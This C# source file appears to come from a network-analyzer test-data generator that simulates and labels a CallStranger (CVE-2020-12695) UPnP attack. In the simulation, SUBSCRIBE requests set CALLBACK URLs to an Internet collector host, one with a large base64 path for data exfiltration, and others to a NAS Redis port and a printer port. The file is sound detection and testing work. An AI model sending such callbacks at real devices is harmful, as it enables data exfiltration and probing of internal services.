using Analyzer.Labels;
using Analyzer.Generation.Messages;
using Analyzer.Generation.Network;
using Analyzer.Generation.Packets;

namespace Analyzer.Generation.Scenarios;

/// <summary>
/// CallStranger (CVE-2020-12695) from a script on the PC: SUBSCRIBE requests whose CALLBACK points at an Internet host
/// (with data smuggled in a 4 KB path, and with two URLs at once) or at another LAN host's service port. The camera's
/// libupnp accepts them and delivers its events there; the router's miniupnpd refuses with 412.
/// </summary>
public sealed class CallStrangerScenario : AttackScenario
{
    public override string Name => "callstranger";
    public override string Description => "attack: GENA SUBSCRIBE with CALLBACK to the Internet or to another LAN host; events delivered there";
    public override string Category => LabelNames.CallbackAbuse;

    public override long Attack(ScenarioContext ctx, long t)
    {
        var net = ctx.Network;
        var random = ctx.Random;
        var attacker = net.WindowsPc.Host;
        var camera = net.Camera;
        var style = ctx.Variation.ScriptHttp;
        const string userAgent = "Callstranger Vulnerability Checker";
        var collector = ctx.InternetHost("callstranger-collector");
        string eventPath = "/upnp/event/" + DescriptionDocuments.ShortName(camera.Services.FirstOrDefault() ?? "urn:x:service:Basic:1");
        string exfiltration = "/" + Convert.ToBase64String(random.Bytes(3_200)).Replace('/', '_').Replace('+', '-');

        var subscriptions = new (string Callback, NetHost[] Targets, string Threat, string Detail)[]
        {
            ($"<http://{collector.Ipv4}:80/cs{random.Hex(8)}>", [collector], "gena-callstranger-external-callback",
                "CALLBACK to an Internet host"),
            ($"<http://{collector.Ipv4}:80{exfiltration}>", [collector], "gena-callstranger-external-callback",
                $"CALLBACK path of {exfiltration.Length} bytes (data exfiltration)"),
            ($"<http://{collector.Ipv4}:80/a><http://{net.Nas.Host.Ipv4}:6379/b>", [collector, net.Nas.Host],
                "gena-callstranger-external-callback", "two CALLBACK URLs, one outside and one at the NAS's Redis port"),
            ($"<http://{net.Nas.Host.Ipv4}:9100/>", [net.Nas.Host], "gena-callback-mismatch-lan",
                "CALLBACK at another LAN host's printer port"),
        };
        foreach (var subscription in subscriptions)
        {
            long at = t + random.Next(500_000, 2_000_000);
            string sid = $"uuid:{random.Uuid()}";
            string hostPort = ScenarioContext.HostPort(camera.Host.Ipv4, camera.DescriptionPort);
            t = ctx.HttpExchange(at, attacker.V4, camera.Host.V4, camera.DescriptionPort,
                GenaMessages.Subscribe(style, hostPort, eventPath, subscription.Callback, userAgent),
                time => GenaMessages.SubscribeAccepted(camera.Server!, time, sid));
            ctx.Mark(LabelNames.CallbackAbuse, subscription.Threat, attacker.Ipv4, camera.Host.Ipv4, at, t, subscription.Detail);

            // The camera delivers its initial event to every callback; the NAS has nothing on those ports.
            string[] urls = subscription.Callback.Split('>', StringSplitOptions.RemoveEmptyEntries);
            for (int i = 0; i < urls.Length; i++)
            {
                var target = subscription.Targets[i];
                var uri = new Uri(urls[i].TrimStart('<'));
                long sent = t + random.Next(5_000, 80_000);
                long done = Deliver(ctx, sent, camera, target, (ushort)uri.Port, uri.AbsolutePath, sid);
                string threat = target.Segment == NetSegment.Wan ? "gena-notify-to-external" : "gena-callback-mismatch-lan";
                ctx.Mark(LabelNames.CallbackAbuse, threat, camera.Host.Ipv4, target.Ipv4, sent, done,
                    $"NOTIFY to the callback {uri.Host}:{uri.Port}");
                t = Math.Max(t, done);
            }
        }

        long refused = t + random.Next(500_000, 2_000_000);
        var router = net.RouterLan.V4;
        string routerHostPort = ScenarioContext.HostPort(router.Address, net.Igd.ControlPort);
        t = ctx.HttpExchange(refused, attacker.V4, router, net.Igd.ControlPort,
            GenaMessages.Subscribe(style, routerHostPort, net.Igd.EventPath, $"<http://{collector.Ipv4}:80/r{random.Hex(6)}>", userAgent),
            time => GenaMessages.PreconditionFailed(net.Igd.Server, time));
        ctx.Mark(LabelNames.CallbackAbuse, "gena-callstranger-external-callback", attacker.Ipv4, router.Address, refused, t,
            "CALLBACK to an Internet host, refused by miniupnpd with 412");
        return t;
    }

    private static long Deliver(ScenarioContext ctx, long t, Device camera, NetHost target, ushort port, string path, string sid)
    {
        string body = GenaMessages.PropertySet([("SystemUpdateID", "1"), ("Status", "OK")]);
        var request = GenaMessages.Notify(ScenarioContext.HostPort(target.Ipv4, port), path, sid, 0, body);
        if (target.Segment == NetSegment.Lan)
            return ctx.Tcp(camera.Host.V4, target.V4, port).Refused(t);
        return ctx.HttpExchange(t, camera.Host.V4, target.V4, port, request, _ => HttpText.Response(HttpStyle.Standard, 200, "OK",
            [("Server", "nginx"), ("Content-Length", "0"), ("Connection", "close")]));
    }
}
